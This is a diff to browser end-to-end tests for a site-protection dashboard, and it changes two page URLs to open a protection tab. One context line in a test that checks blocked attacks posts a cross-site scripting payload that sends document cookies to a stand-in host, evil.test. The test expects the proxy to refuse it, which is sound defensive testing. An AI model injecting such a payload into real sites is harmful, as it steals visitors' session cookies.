@@ -81,7 +81,7 @@ test("an access list with a user, assigned in the site form, makes the browser g
   await page.getByRole("button", { name: "Add access list" }).click();
   await expect(page).toHaveURL(/\/access-lists\/[^/?]+\?created=1$/);
 
-  await page.goto(`${product.dashboardUrl}/sites/${siteId}`);
+  await page.goto(`${product.dashboardUrl}/sites/${siteId}?tab=protection`);
   await page.getByLabel("Access list").selectOption({ label: "Members only" });
   await page.getByRole("button", { name: "Save site" }).click();
   await expect(page.getByTestId("form-success")).toBeVisible();
@@ -113,7 +113,7 @@ test("attacks in the URL and in a body are refused and show, in plain words, amo
   expect(await postViaProxy("/comments", { text: "<script>fetch('//evil.test/?c='+document.cookie)</script>" })).toBe(403);
 
   await signIn(page, product.dashboardUrl, admin);
-  await page.goto(`${product.dashboardUrl}/sites/${siteId}`);
+  await page.goto(`${product.dashboardUrl}/sites/${siteId}?tab=protection`);
   await page.getByTestId("protection-card").getByRole("link", { name: "Blocked requests" }).click();
   await expect(page).toHaveURL(/\/access-log\?blocked=1$/);
   // Workers hand the log over every few seconds.
